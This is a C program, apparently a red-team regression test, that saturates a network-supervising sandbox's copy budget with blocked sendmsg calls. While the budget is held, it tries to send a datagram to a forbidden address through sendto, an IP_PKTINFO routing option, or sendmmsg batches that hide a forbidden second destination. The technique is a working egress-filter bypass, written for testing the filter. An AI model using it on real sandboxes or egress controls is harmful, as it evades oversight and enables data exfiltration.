/* Holds the supervisor's copy budget (32 MiB for all calls in flight), then makes a leak
 * attempt (red teams r29 and r30: attempts once kept unjudged while the budget was held).
 * NHOLD threads each connect to HOLD (allowed,
 * a listener that never reads), fill the connection with write() (not trapped) until it would
 * block, and make one blocking sendmsg of 256 KiB (trapped): the supervisor copies it and
 * blocks in the send it performs, holding the copy; 128 of them hold the whole budget. Then
 * one thread makes the attempt of MODE, and the program exits WAIT_MS later:
 *   sendto     a datagram to LEAK (sendto on a fresh UDP socket)
 *   cmsg       a datagram to OK (allowed) by sendmsg, with an IP_PKTINFO control message
 *              naming interface 1 (a routing option: refused as `routing-option`)
 *   mmsg       sendmmsg of two datagrams: the first to OK, the second to LEAK
 *   mmsg-conn  the UDP socket connected to OK first; sendmmsg of two datagrams: the first
 *              without an address, the second to LEAK
 *
 * usage: r30_budget HOLD_HOST HOLD_PORT NHOLD MODE LEAK_HOST LEAK_PORT OK_HOST OK_PORT SETTLE_MS WAIT_MS
 * Prints "held: N failed: F", then "leak: answered rc=R errno=E" or "leak: unanswered", then
 * exits 0 (exit_group ends the threads still waiting).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

#define CHUNK (256 * 1024)

static struct sockaddr_in hold_addr, leak_addr, ok_addr;
static const char *mode;
static atomic_int held, failed;
static atomic_int leak_done;
static atomic_int leak_rc, leak_errno;
static char *payload;

static void sleep_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
    }
}

static void *hold(void *arg) {
    (void)arg;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) goto fail;
    int small = 4096;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
    if (connect(fd, (struct sockaddr *)&hold_addr, sizeof hold_addr) != 0) goto fail;
    int fl = fcntl(fd, F_GETFL);
    fcntl(fd, F_SETFL, fl | O_NONBLOCK);
    char buf[4096];
    memset(buf, 'h', sizeof buf);
    for (;;) {
        ssize_t n = write(fd, buf, sizeof buf);
        if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
        if (n < 0) goto fail;
    }
    fcntl(fd, F_SETFL, fl & ~O_NONBLOCK);
    atomic_fetch_add(&held, 1);
    struct iovec iov = {payload, CHUNK};
    struct msghdr msg = {0};
    msg.msg_iov = &iov;
    msg.msg_iovlen = 1;
    sendmsg(fd, &msg, 0);
    return NULL;
fail:
    atomic_fetch_add(&failed, 1);
    return NULL;
}

static ssize_t attempt(void) {
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) return -1;
    if (strcmp(mode, "sendto") == 0) {
        return sendto(fd, "r30-budget-leak", 15, 0, (struct sockaddr *)&leak_addr, sizeof leak_addr);
    }
    if (strcmp(mode, "cmsg") == 0) {
        struct iovec iov = {"r30-budget-cmsg", 15};
        union {
            char buf[CMSG_SPACE(sizeof(struct in_pktinfo))];
            struct cmsghdr align;
        } u;
        memset(&u, 0, sizeof u);
        struct msghdr msg = {0};
        msg.msg_name = &ok_addr;
        msg.msg_namelen = sizeof ok_addr;
        msg.msg_iov = &iov;
        msg.msg_iovlen = 1;
        msg.msg_control = u.buf;
        msg.msg_controllen = sizeof u.buf;
        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
        c->cmsg_level = IPPROTO_IP;
        c->cmsg_type = IP_PKTINFO;
        c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
        struct in_pktinfo pi;
        memset(&pi, 0, sizeof pi);
        pi.ipi_ifindex = 1;
        memcpy(CMSG_DATA(c), &pi, sizeof pi);
        return sendmsg(fd, &msg, 0);
    }
    int conn = strcmp(mode, "mmsg-conn") == 0;
    if (!conn && strcmp(mode, "mmsg") != 0) {
        fprintf(stderr, "unknown mode %s\n", mode);
        exit(2);
    }
    if (conn && connect(fd, (struct sockaddr *)&ok_addr, sizeof ok_addr) != 0) return -1;
    struct iovec iov0 = {"r30-mmsg-ok", 11}, iov1 = {"r30-mmsg-leak", 13};
    struct mmsghdr m[2];
    memset(m, 0, sizeof m);
    if (!conn) {
        m[0].msg_hdr.msg_name = &ok_addr;
        m[0].msg_hdr.msg_namelen = sizeof ok_addr;
    }
    m[0].msg_hdr.msg_iov = &iov0;
    m[0].msg_hdr.msg_iovlen = 1;
    m[1].msg_hdr.msg_name = &leak_addr;
    m[1].msg_hdr.msg_namelen = sizeof leak_addr;
    m[1].msg_hdr.msg_iov = &iov1;
    m[1].msg_hdr.msg_iovlen = 1;
    return sendmmsg(fd, m, 2, 0);
}

static void *leak(void *arg) {
    (void)arg;
    ssize_t rc = attempt();
    atomic_store(&leak_errno, rc < 0 ? errno : 0);
    atomic_store(&leak_rc, (int)rc);
    atomic_store(&leak_done, 1);
    return NULL;
}

static void fill(struct sockaddr_in *sa, const char *host, const char *port) {
    memset(sa, 0, sizeof *sa);
    sa->sin_family = AF_INET;
    sa->sin_port = htons((unsigned short)atoi(port));
    if (inet_pton(AF_INET, host, &sa->sin_addr) != 1) {
        fprintf(stderr, "bad address %s\n", host);
        exit(2);
    }
}

int main(int argc, char **argv) {
    if (argc != 11) {
        fprintf(stderr,
                "usage: %s HOLD_HOST HOLD_PORT NHOLD MODE LEAK_HOST LEAK_PORT OK_HOST OK_PORT SETTLE_MS WAIT_MS\n",
                argv[0]);
        return 2;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    fill(&hold_addr, argv[1], argv[2]);
    int n = atoi(argv[3]);
    mode = argv[4];
    fill(&leak_addr, argv[5], argv[6]);
    fill(&ok_addr, argv[7], argv[8]);
    long settle = atol(argv[9]), wait = atol(argv[10]);
    payload = malloc(CHUNK);
    memset(payload, 'p', CHUNK);
    pthread_attr_t attr;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 64 * 1024);
    pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
    for (int i = 0; i < n; i++) {
        pthread_t t;
        pthread_create(&t, &attr, hold, NULL);
    }
    for (int i = 0; i < 2000 && atomic_load(&held) + atomic_load(&failed) < n; i++) sleep_ms(5);
    sleep_ms(settle);
    printf("held: %d failed: %d\n", atomic_load(&held), atomic_load(&failed));
    pthread_t t;
    pthread_create(&t, &attr, leak, NULL);
    for (long waited = 0; waited < wait && !atomic_load(&leak_done); waited += 5) sleep_ms(5);
    if (atomic_load(&leak_done)) {
        printf("leak: answered rc=%d errno=%d\n", atomic_load(&leak_rc), atomic_load(&leak_errno));
    } else {
        printf("leak: unanswered\n");
    }
    return 0;
}
